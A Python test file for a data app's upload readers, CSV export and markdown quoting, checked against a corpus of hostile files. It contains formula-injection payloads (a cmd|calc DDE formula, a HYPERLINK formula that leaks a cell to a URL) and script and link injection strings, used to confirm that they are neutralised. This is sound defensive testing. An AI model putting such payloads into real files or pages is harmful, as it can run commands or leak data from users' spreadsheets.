"""Uploaded tables (issue 15): every file of the hostile corpus is read to what it should be
or refused with an UploadError naming the problem, and never raises anything else.

Oracles independent of the code under test: the csv module and Python's Counter for what a
file holds, the built-in Wrodl data for the Naive Bayes and multinomial fits, a small
CommonMark code-span reader for the messages' quoting, and hand-written expectations for
formula neutralisation.
"""

from __future__ import annotations

import ast
import csv
import io
import math
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import gdl_core.wrodl.data  # noqa: F401  (imported before the no-disk test patches open())
from gdl_core import wrodl
from gdl_core.categorical import PSEUDOCOUNTS
from gdl_core.multinomial import JointMultinomial
from gdl_core.naive_bayes import CategoricalNB
from gdl_core.uploads import (
    MAX_BYTES,
    UploadError,
    categorical_dataset,
    inline_code,
    points_dataset,
    read_table,
    safe_csv,
)
from tests.hostile.make_corpus import BadFile, Expect, query_values, table_files

ROOT = Path(__file__).resolve().parents[2]
CORPUS = table_files()
BY_ID = {item.id: item for item in CORPUS}


# --------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------

#: A CommonMark code span: a run of n backticks, content, then a run of exactly n.
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)


def _outside_code(message: str) -> str:
    return _CODE_SPAN.sub("", message)


def _code_spans(message: str) -> list[str]:
    """The text each code span of ``message`` shows (CommonMark's stripping rule)."""
    shown = []
    for _, content in _CODE_SPAN.findall(message):
        if content.startswith(" ") and content.endswith(" ") and content.strip():
            content = content[1:-1]
        shown.append(content)
    return shown


def _attempt(reader, *args, **kwargs):
    """(result, None) or (None, UploadError); any other exception fails the test."""
    try:
        return reader(*args, **kwargs), None
    except UploadError as error:
        return None, error


def _check_message(error: UploadError) -> None:
    """What every refusal must be: plain sentences, with pieces of the file only inside
    code spans (so st.error shows them as text: no link, picture, HTML or formatting)."""
    message = str(error)
    assert type(error) is UploadError
    assert 20 < len(message) < 450, message
    assert "\n" not in message and "Traceback" not in message
    assert message[0].isupper() and message.endswith((".", "?")), message
    assert not re.search(r"[<>\[\]*$`_]", _outside_code(message)), message


def _check_expectation(expect: Expect | None, result, error, what: str) -> bool:
    """Compare an outcome with the corpus's expectation; True if there is a result."""
    if error is not None:
        _check_message(error)
    if expect is None:
        return error is None
    if expect.error is not None:
        assert error is not None, f"{what} should have been refused ({expect.error})"
        message = str(error).casefold()
        for word in expect.error:
            assert word.casefold() in message, f"{what}: {word!r} not in {str(error)!r}"
        return False
    assert error is None, f"{what} should have succeeded, got: {error}"
    return True


def _check_table(item: BadFile, table: pd.DataFrame) -> None:
    facts = item.table.facts
    assert table.index.name == "row"
    assert table.index.is_monotonic_increasing and table.index.min() >= 2
    assert all(isinstance(name, str) and name for name in table.columns)
    cells = table.to_numpy().ravel().tolist()
    assert all(isinstance(cell, str) for cell in cells)  # no numbers, NaN or None
    assert all(cell == cell.strip() for cell in cells)
    assert table.attrs["encoding"] in ("utf-8", "utf-8-sig", "cp1252")
    assert table.attrs["separator"] in (",", ";", "\t") and table.attrs["name"] == item.name
    for key, value in facts.items():
        if key == "shape":
            assert table.shape == value
        elif key == "columns":
            assert tuple(table.columns) == value
        elif key == "first_row":
            assert tuple(table.iloc[0]) == value
        elif key == "rows":
            assert tuple(table.index) == value
        elif key in ("encoding", "separator"):
            assert table.attrs[key] == value
        elif key.startswith("cell"):
            position, column, text = value
            assert table[column].iloc[position] == text
        else:  # pragma: no cover - a typo in the corpus
            raise AssertionError(f"unknown fact {key!r}")


def _check_categorical(item: BadFile, table: pd.DataFrame, dataset) -> None:
    facts = item.categorical.facts if item.categorical else {}
    codes = dataset.codes
    assert codes.dtype == np.int64 and not codes.flags.writeable
    assert codes.shape == (len(table), len(dataset.features))
    assert dataset.rows == tuple(table.index)
    # Oracle: the codes give back every cell of the file.
    for k, feature in enumerate(dataset.features):
        column = table[feature].tolist()
        assert [dataset.values[k][c] for c in codes[:, k]] == column
        if not dataset.is_wrodl:
            assert set(dataset.values[k]) == set(column)
    # Oracle: Naive Bayes' counts are Python's Counter of each column.
    model = CategoricalNB(alpha=1.0).fit(codes, dataset.n_values)
    for k, feature in enumerate(dataset.features):
        counts = Counter(table[feature].tolist())
        expected = [counts[value] for value in dataset.values[k]]
        assert model.counts_[k, : dataset.n_values[k]].tolist() == expected
    joint = JointMultinomial(alpha=0.5).fit(codes, dataset.n_values)
    assert joint.d_ == math.prod(len(values) for values in dataset.values)
    assert joint.n_distinct_ == len(set(map(tuple, table[list(dataset.features)].to_numpy())))
    assert set(dataset.dropped).isdisjoint(dataset.features)
    assert set(dataset.dropped) | set(dataset.features) == set(table.columns)
    for key, value in facts.items():
        if key == "note":
            assert any(value in note for note in dataset.notes), dataset.notes
        else:
            assert getattr(dataset, key) == value, key


def _python_number(text: str) -> float:
    """An independent reading of a coordinate: Python's float() after the two allowed
    spellings (a true minus sign, a decimal comma) are turned into Python's."""
    return float(text.replace("\u2212", "-").replace(",", "."))


def _check_points(item: BadFile, table: pd.DataFrame, points: np.ndarray) -> None:
    assert points.shape == (len(table), 2) and points.dtype == np.float64
    assert not points.flags.writeable
    assert np.all(np.isfinite(points))
    assert np.all(np.abs(points[:, 0]) <= 180) and np.all(np.abs(points[:, 1]) <= 90)
    names = [name.casefold() for name in table.columns]
    if "lon" in names and "lat" in names:
        expected = [[_python_number(a), _python_number(b)]
                    for a, b in zip(table["lon"], table["lat"], strict=True)]
        assert points.tolist() == expected
    facts = item.points.facts if item.points else {}
    if "points" in facts:
        assert points.tolist() == [list(point) for point in facts["points"]]


def _run_all(item: BadFile):
    """Every reader over one file; returns what each gave (for the no-disk test)."""
    table, error = _attempt(read_table, item.data, item.name)
    if not _check_expectation(item.table, table, error, f"read_table({item.id})"):
        return error
    _check_table(item, table)
    dataset, error = _attempt(categorical_dataset, table)
    if _check_expectation(item.categorical, dataset, error, f"categorical({item.id})"):
        _check_categorical(item, table, dataset)
    points, error = _attempt(points_dataset, table)
    if _check_expectation(item.points, points, error, f"points({item.id})"):
        _check_points(item, table, points)
    exported = safe_csv(table)
    _check_export(table, exported)
    return table


# --------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------


def test_the_corpus_is_large_and_varied():
    assert len(CORPUS) >= 40
    assert len(BY_ID) == len(CORPUS), "corpus ids must be unique"
    refused = [item for item in CORPUS if item.table.error is not None]
    read = [item for item in CORPUS if item.table.error is None]
    assert len(refused) >= 25 and len(read) >= 25
    assert sum(item.categorical is not None and item.categorical.error is not None
               for item in CORPUS) >= 5
    assert sum(item.points is not None and item.points.error is not None
               for item in CORPUS) >= 15
    values = query_values()
    assert len(values) >= 30
    assert all(isinstance(v.value, str) and v.expect in ("default", "clamped", "in range")
               for v in values)


@pytest.mark.parametrize("item", CORPUS, ids=[item.id for item in CORPUS])
def test_every_file_is_read_as_expected_or_refused_by_name(item):
    _run_all(item)


def test_the_corpus_script_lists_the_files():
    done = subprocess.run([sys.executable, str(ROOT / "tests/hostile/make_corpus.py")],
                          cwd=ROOT, capture_output=True, text=True, check=True)
    assert f"{len(CORPUS)} table files" in done.stdout


# --------------------------------------------------------------------------------------
# read_table
# --------------------------------------------------------------------------------------


def test_the_same_text_reads_the_same_in_every_encoding_separator_and_line_ending():
    text = "prénom,ville,note\nZoë,Besançon,=1+1\nJosé,\"Málaga, España\",-3\n"
    reference = read_table(text.encode("utf-8"), "a.csv")
    variants = {
        "utf-8-sig": b"\xef\xbb\xbf" + text.encode("utf-8"),
        "cp1252": text.encode("cp1252"),
        "crlf": text.replace("\n", "\r\n").encode(),
        "cr": text.replace("\n", "\r").encode(),
    }
    for label, data in variants.items():
        table = read_table(data, "b.csv")
        pd.testing.assert_frame_equal(table, reference, obj=label)
    semicolons = read_table(
        "prénom;ville;note\nZoë;Besançon;=1+1\nJosé;Málaga, España;-3\n".encode(), "c.csv"
    )
    pd.testing.assert_frame_equal(semicolons, reference)
    assert read_table(variants["cp1252"], "b.csv").attrs["encoding"] == "cp1252"
    assert semicolons.attrs["separator"] == ";"


def test_values_are_never_converted():
    table = read_table(b"a,b,c,d\n007,NA,=1+1,1e3\nnull,-0,TRUE,\n", "t.csv")
    assert table.to_numpy().tolist() == [["007", "NA", "=1+1", "1e3"],
                                         ["null", "-0", "TRUE", ""]]
    assert all(dtype is np.dtype(object) for dtype in table.dtypes)


def test_the_limits_can_be_chosen():
    data = b"a,b,c\n1,2,3\n4,5,6\n"
    assert read_table(data, max_rows=2, max_columns=3, max_bytes=len(data)).shape == (2, 3)
    with pytest.raises(UploadError, match="3 rows; the limit is 2"):
        read_table(data + b"7,8,9\n", max_rows=2)
    with pytest.raises(UploadError, match="3 columns; the limit is 2"):
        read_table(data, max_columns=2)
    with pytest.raises(UploadError, match=f"{len(data)} bytes; the limit is 10 bytes"):
        read_table(data, max_bytes=10)
    with pytest.raises(UploadError, match="4 characters"):
        read_table(b"a,b\nabcd,1\n", max_cell_chars=3)
    assert MAX_BYTES == 2_000_000


def test_the_size_message_rounds_to_megabytes():
    with pytest.raises(UploadError) as error:
        read_table(b"a\n" + b"x\n" * 1_700_000)
    assert "is 3.4 MB; the limit is 2 MB" in str(error.value)


def test_the_file_name_is_quoted_safely():
    with pytest.raises(UploadError) as error:
        read_table(b"", "![x](http://example.com/t.png).csv")
    _check_message(error.value)
    assert _code_spans(str(error.value)) == ["![x](http://example.com/t.png).csv"]


def test_only_bytes_are_accepted():
    with pytest.raises(TypeError):
        read_table("a,b\n1,2\n")  # type: ignore[arg-type]
    assert read_table(bytearray(b"a,b\n1,2\n")).shape == (1, 2)
    assert read_table(memoryview(b"a,b\n1,2\n")).shape == (1, 2)


# --------------------------------------------------------------------------------------
# categorical_dataset
# --------------------------------------------------------------------------------------


def _uploaded_wrodl(item_id: str):
    item = BY_ID[item_id]
    return categorical_dataset(read_table(item.data, item.name))


@pytest.mark.parametrize("item_id", ["wrodl", "wrodl_semicolon_bom_crlf", "wrodl_without_id"])
def test_an_uploaded_copy_of_wrodl_fits_exactly_like_the_built_in_data(item_id):
    dataset = _uploaded_wrodl(item_id)
    assert dataset.is_wrodl and dataset.features == tuple(wrodl.FEATURES)
    assert dataset.values == tuple(wrodl.FEATURES.values())
    np.testing.assert_array_equal(dataset.codes, wrodl.training_codes())
    for alpha in PSEUDOCOUNTS:
        built_in = CategoricalNB(alpha).fit(wrodl.training_codes(), wrodl.N_VALUES)
        uploaded = CategoricalNB(alpha).fit(dataset.codes, dataset.n_values)
        np.testing.assert_array_equal(uploaded.theta_, built_in.theta_)
        assert uploaded.n_params_ == 23
        joint_built_in = JointMultinomial(alpha).fit(wrodl.training_codes(), wrodl.N_VALUES)
        joint = JointMultinomial(alpha).fit(dataset.codes, dataset.n_values)
        assert joint.d_ == wrodl.N_COMBINATIONS == 4032
        np.testing.assert_array_equal(joint.seen_, joint_built_in.seen_)
        np.testing.assert_array_equal(joint.counts_, joint_built_in.counts_)
    # The book's worked example: p(combination 1) ≈ 0.0054 under maximum likelihood.
    model = CategoricalNB(0).fit(dataset.codes, dataset.n_values)
    assert model.prob(wrodl.encode(wrodl.COMBINATION_1))[0] == pytest.approx(0.0054, abs=5e-5)


def test_a_wrodl_dataframe_is_recognised_without_a_file():
    dataset = categorical_dataset(wrodl.load())  # Categorical columns, face_id index
    assert dataset.is_wrodl
    np.testing.assert_array_equal(dataset.codes, wrodl.training_codes())
    assert dataset.rows == tuple(range(2, 52))


def test_samples_decode_to_values_of_the_upload():
    table = read_table(b"colour,size\nred,S\nblue,M\nred,L\ngreen,S\n")
    dataset = categorical_dataset(table)
    samples = CategoricalNB(1.0).fit(dataset.codes, dataset.n_values).sample(200, seed=0)
    faces = dataset.decode(samples)
    assert list(faces.columns) == ["colour", "size"]
    assert set(faces["colour"]) <= {"blue", "green", "red"}
    assert set(faces["size"]) <= {"L", "M", "S"}
    assert dataset.vocabulary == {"colour": ("blue", "green", "red"), "size": ("L", "M", "S")}
    assert dataset.n_obs == 4 and dataset.n_combinations == 9
    assert repr(dataset) == ("CategoricalDataset(n_obs=4, features=('colour', 'size'), "
                             "n_values=(3, 3), is_wrodl=False, dropped=())")
    assert dataset.decode(np.empty((0, 2), dtype=int)).shape == (0, 2)
    with pytest.raises(ValueError, match="2 columns"):
        dataset.decode(np.zeros((3, 5), dtype=int))


def test_the_category_and_combination_limits_can_be_chosen():
    table = read_table(b"a,b\nx,1\ny,2\nz,3\nx,1\n")
    with pytest.raises(UploadError, match="3 different values; the limit is 2"):
        categorical_dataset(table, max_categories_per_column=2)
    with pytest.raises(UploadError, match=r"9 possible combinations \(3 × 3\); the limit is 8"):
        categorical_dataset(table, max_combinations=8)
    wide = read_table(BY_ID["too_many_combinations"].data)
    big = categorical_dataset(wide, max_combinations=None)
    assert big.n_combinations == 10**6


def test_a_table_not_from_a_file_is_checked_too():
    with pytest.raises(UploadError, match="0 rows"):
        categorical_dataset(pd.DataFrame({"a": []}))
    with pytest.raises(UploadError, match="empty in every row"):
        categorical_dataset(pd.DataFrame({"a": ["x", "y"], "b": [None, math.nan]}))
    with pytest.raises(UploadError, match="Data row 3"):
        points_dataset(pd.DataFrame({"lon": [1.0, 2.0, math.nan], "lat": [1.0, 2.0, 3.0]}))
    points = points_dataset(pd.DataFrame({"lat": [1.5, -2.0], "lon": [100, -170]}))
    assert points.tolist() == [[100.0, 1.5], [-170.0, -2.0]]
    with pytest.raises(TypeError):
        categorical_dataset([["a"]])  # type: ignore[arg-type]


# --------------------------------------------------------------------------------------
# points_dataset
# --------------------------------------------------------------------------------------


def test_points_feed_the_world_map():
    from gdl_core.world import Box

    points = points_dataset(read_table(b"lon,lat\n-10,5\n20,-15\n3,40\n"))
    box = Box.fit(points)
    assert (box.lon_min, box.lon_max, box.lat_min, box.lat_max) == (-10, 20, -15, 40)
    assert np.all(box.contains(points))


def test_the_point_limit_can_be_chosen():
    table = read_table(b"lon,lat\n1,2\n3,4\n5,6\n")
    with pytest.raises(UploadError, match="3 points; the map takes at most 2"):
        points_dataset(table, max_points=2)
    with pytest.raises(UploadError, match="no points"):
        points_dataset(table.iloc[:0])


# --------------------------------------------------------------------------------------
# safe_csv
# --------------------------------------------------------------------------------------

#: Hand-written: what a spreadsheet must receive for each text cell.
NEUTRALISED = {
    '=HYPERLINK("http://example.com","click")': '\'=HYPERLINK("http://example.com","click")',
    "=1+1": "'=1+1",
    "+1": "+1",  # a plain number: Excel reads 1, nothing runs
    "+1+1": "'+1+1",
    "-3.5": "-3.5",  # a plain number stays a number
    "-1e-5": "-1e-5",
    "-2+3": "'-2+3",
    "-A1": "'-A1",
    "-": "'-",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "  =1+1": "'  =1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "a=1": "a=1",
    "'quoted": "'quoted",
    "": "",
    "plain, with comma": "plain, with comma",
    'say "hi"': 'say "hi"',
    "two\nlines": "two\nlines",
}


def _read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _check_export(table: pd.DataFrame, data: bytes) -> None:
    """Read back with the csv module: same shape, and no cell a spreadsheet would run."""
    rows = _read_back(data)
    assert len(rows) == len(table) + 1 and all(len(row) == table.shape[1] for row in rows)
    for cell in (cell for row in rows for cell in row):
        start = cell.lstrip(" ")[:1]
        if start in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r"[+-][0-9.]+(e[+-]?[0-9]+)?", cell, re.IGNORECASE), cell


def test_safe_csv_neutralises_formulas_and_keeps_numbers():
    texts = list(NEUTRALISED)
    frame = pd.DataFrame({
        "text": texts,
        "number": [-3.5, 2, math.nan, 1e-5, -0.25] + [0.0] * (len(texts) - 5),
        "=header": ["x"] * len(texts),
    })
    rows = _read_back(safe_csv(frame))
    assert rows[0] == ["text", "number", "'=header"]
    assert [row[0] for row in rows[1:]] == [NEUTRALISED[text] for text in texts]
    assert [row[1] for row in rows[1:6]] == ["-3.5", "2.0", "", "1e-05", "-0.25"]
    data = safe_csv(frame)
    assert b"\r\n" in data and data.count(b"\r\n") >= len(texts) + 1


def test_safe_csv_of_every_value_type():
    frame = pd.DataFrame({
        "int": pd.array([-1, None], dtype="Int64"),
        "bool": [True, False],
        "float": [-math.inf, math.inf],
        "category": pd.Categorical(["=x", "y"]),
        "object": pd.Series([None, 3], dtype=object),
    })
    rows = _read_back(safe_csv(frame))
    assert rows[1:] == [["-1", "TRUE", "'-inf", "'=x", ""], ["", "FALSE", "inf", "y", "3"]]
    with pytest.raises(TypeError):
        safe_csv([[1]])  # type: ignore[arg-type]


def test_an_export_reads_back_as_the_neutralised_table():
    table = read_table(BY_ID["formulas"].data)
    again = read_table(safe_csv(table))
    assert again.attrs["encoding"] == "utf-8-sig"
    assert again["formula"].tolist() == [
        '\'=HYPERLINK("http://example.com/?leak="&A1,"click")', "+1", "'@SUM(1+1)", "'-2+3",
        "'=1+1", "'=cmd|' /C calc'!A0", "'=1+1", "-3.5",
    ]
    assert again["item"].tolist() == table["item"].tolist()


# --------------------------------------------------------------------------------------
# inline_code
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "plain", "<script>alert(1)</script>", "[x](javascript:alert(1))", "**bold**",
    "`", "``", "a`b", "``a``", "` x `", "x ` ", "![](http://example.com/t.png)",
    ":red[red] $x^2$ :smile:", "a\\`b", "|table|", "_under_",
])
def test_inline_code_shows_exactly_the_text(text):
    quoted = inline_code(text)
    assert _code_spans(quoted) == [text]
    assert _outside_code(quoted) == ""


def test_inline_code_cuts_long_text_and_shows_invisible_characters():
    assert _code_spans(inline_code("x" * 100)) == ["x" * 40 + "…"]
    assert _code_spans(inline_code("a\u202eb\u200bc\u2028d\x00e\n")) == [
        "a\\u202eb\\u200bc\\u2028d\\u0000e\\u000a"
    ]
    assert inline_code("") == "(empty)"
    assert _code_spans(inline_code(12.5)) == ["12.5"]


# --------------------------------------------------------------------------------------
# No disk, no Streamlit
# --------------------------------------------------------------------------------------


def test_nothing_is_written_to_disk(no_files):
    for item in CORPUS:
        _run_all(item)


def test_the_upload_modules_never_import_streamlit():
    for path in sorted((ROOT / "gdl_core" / "uploads").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            assert not any(name.split(".")[0] == "streamlit" for name in names), path
    script = ("import sys, gdl_core.uploads as u; u.read_table(b'a,b\\n1,2\\n');"
              "print('streamlit' in sys.modules)")
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True,
                          text=True, check=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.stdout.strip() == "False"


# --------------------------------------------------------------------------------------
# Bad URL values, through today's ui.state.Param (the pages' tests will use them too)
# --------------------------------------------------------------------------------------


def _params():
    state = pytest.importorskip("ui.state")
    param = state.Param
    return {
        "alpha": param("a", "alpha", 0.0, 0.0, 10.0, options=PSEUDOCOUNTS),
        "seed": param("s", "seed", 0, 0, 999_999),
        "n": param("n", "n", 50, 1, 5_000),
        "land": param("l", "land", False),
        "lon_min": param("lo", "lon_min", -180.0, -180.0, 180.0, exact=True),
        "radius": param("r", "radius", 3.0, 0.0, 15.0,
                        options=tuple(half / 2 for half in range(31))),
        "face": param("f", "face", 3, 0, 49),
        "k": param("k", "k", 2, 1, 10),
    }


@pytest.mark.parametrize("bad", query_values(), ids=lambda bad: f"{bad.param}={bad.value[:20]!r}")
def test_a_bad_url_value_gives_an_allowed_setting(bad):
    param = _params()[bad.param]
    value, notice = param.parse(bad.value)
    if isinstance(param.default, bool):
        assert isinstance(value, bool)
    else:
        assert math.isfinite(value) and param.lo <= value <= param.hi
        assert isinstance(value, type(param.default))
    if bad.expect == "default":
        assert value == param.default and notice
    elif bad.expect == "clamped":
        assert notice


def test_url_notices_show_the_value_as_text():
    for bad in query_values():
        _, notice = _params()[bad.param].parse(bad.value)
        if notice:
            assert not re.search(r"!\[|\]\(|<|\*\*", _outside_code(notice)), notice
